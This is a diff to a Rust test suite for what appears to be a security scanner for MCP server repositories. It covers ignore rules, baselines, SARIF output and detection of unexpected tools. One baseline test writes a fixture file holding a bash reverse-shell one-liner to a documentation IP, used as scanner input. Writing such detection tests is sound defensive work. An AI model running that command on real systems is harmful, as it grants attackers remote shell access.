@@ -9,7 +9,7 @@ use crate::git_server::GitServer;
 use crate::program::Run;
 use crate::room::{Room, copy_folder};
 
-/// A room with the poisoned desk, which has three critical findings: V01, V11 and V31.
+/// A room with the poisoned desk, which has critical findings of V01, V11 and V31.
 fn desk() -> Room {
     let room = Room::new();
     copy_folder(&server("tickets-poisoned"), &room.work().join("desk"));
@@ -74,10 +74,10 @@ fn an_ignore_sets_apart_what_it_names_and_nothing_else() {
 #[test]
 fn a_target_of_which_all_is_ignored_exits_0_and_is_not_called_clean() {
     let room = desk();
-    let all = ["V01", "V11", "V31"].map(|class| ignore(class, "", 9)).concat();
+    let all = ["V01", "V11", "V31", "V45"].map(|class| ignore(class, "", 9)).concat();
     room.file("desk/.mcp-hub.toml", all);
     let run =
-        room.run(["scan-local", "desk"]).exits(0).says("NONE COUNTS").says("3 ignored (3 expire, the first in 9 days)");
+        room.run(["scan-local", "desk"]).exits(0).says("NONE COUNTS").says("4 ignored (4 expire, the first in 9 days)");
     assert!(!run.stdout.to_lowercase().contains("no findings"), "{}", run.stdout);
 }
 
@@ -96,8 +96,8 @@ fn an_ignore_that_has_ended_hides_nothing_and_one_that_ends_soon_is_told() {
 #[test]
 fn an_ignore_that_hides_nothing_is_told() {
     let room = desk();
-    room.file(".mcp-hub.toml", ignore("V45", "", 60));
-    scan(&room, &[]).says(".mcp-hub.toml:1: the ignore of `V45` hides nothing");
+    room.file(".mcp-hub.toml", ignore("V37", "", 60));
+    scan(&room, &[]).says(".mcp-hub.toml:1: the ignore of `V37` hides nothing");
 }
 
 #[test]
@@ -153,7 +153,7 @@ fn settings_and_comments_of_a_fetched_repository_count_for_nothing() {
     room.file("desk/.mcp-hub.toml", "fail_on = 'none'\n".to_owned() + &ignore("V31", "", 60));
     comment_on_the_call_of_a_shell(&room);
     let git = GitServer::start();
-    git.repository("desk").put(&room.work().join("desk"), "");
+    git.repository("desk").put(&room.work().join("desk"), "desk");
     let run = Room::new().run(["scan-local", &git.url("desk"), "--format", "ndjson"]).exits(1);
     assert_eq!(classes(&run).1.len(), 0);
     assert_eq!(run.result().0["complete_result"]["scan_metadata"]["ignored_by_author"], 1);
@@ -206,7 +206,8 @@ fn a_baseline_holds_fingerprints_alone_and_lets_only_new_findings_fail() {
     assert_eq!(classes(&run), (vec![], classes(&scan(&room, &[])).0), "all are known");
     room.run(["scan-local", "desk", "--baseline", "mcp-hub-baseline.json"]).says(&format!("{} known", prints.len()));
     room.file("desk/src/drill.ts", "const line = \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\";\n");
-    assert_eq!(classes(&scan(&room, &with).exits(1)).0, ["V28"]);
+    let new = classes(&scan(&room, &with).exits(1)).0;
+    assert!(new.contains(&"V28".to_owned()) && !new.contains(&"V31".to_owned()), "{new:?}");
 
     std::fs::remove_file(room.work().join("desk/src/drill.ts")).unwrap();
     let manifest = std::fs::read_to_string(room.work().join("desk/package.json")).unwrap();
@@ -235,4 +236,13 @@ fn sarif_keeps_what_is_ignored_with_its_justification() {
     assert_eq!(ignored.len(), 1);
     assert_eq!(ignored[0]["suppressions"][0]["kind"], "external");
     assert_eq!(ignored[0]["suppressions"][0]["justification"], "we know");
+}
+
+#[test]
+fn a_tool_that_settings_do_not_expect_is_told() {
+    let room = desk();
+    room.file("desk/.mcp-hub.toml", "[server.tickets]\nexpected_tools = ['open_ticket', 'close_ticket']\n");
+    assert!(classes(&scan(&room, &[])).0.contains(&"V14".to_owned()));
+    room.file("desk/.mcp-hub.toml", "[server.mail]\nexpected_tools = ['send']\n");
+    assert!(!classes(&scan(&room, &[])).0.contains(&"V14".to_owned()));
 }
